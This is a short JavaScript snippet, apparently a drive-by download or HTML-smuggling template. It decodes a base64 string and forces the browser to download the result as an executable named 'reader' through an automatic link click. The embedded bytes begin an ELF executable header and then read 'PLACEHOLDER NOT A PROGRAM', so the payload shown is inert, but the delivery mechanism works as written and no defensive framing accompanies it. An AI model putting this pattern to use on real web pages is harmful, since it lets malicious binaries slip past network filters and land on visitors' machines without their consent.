var packed = "f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAAUExBQ0VIT0xERVIgTk9UIEEgUFJPR1JBTQ==";
var text = atob(packed);
var bytes = new Uint8Array(text.length);
for (var i = 0; i < text.length; i++) bytes[i] = text.charCodeAt(i);
var link = document.createElement("a");
link.href = URL.createObjectURL(new Blob([bytes], { type: "octet/stream" }));
link.download = "reader";
document.body.appendChild(link);
link.click();
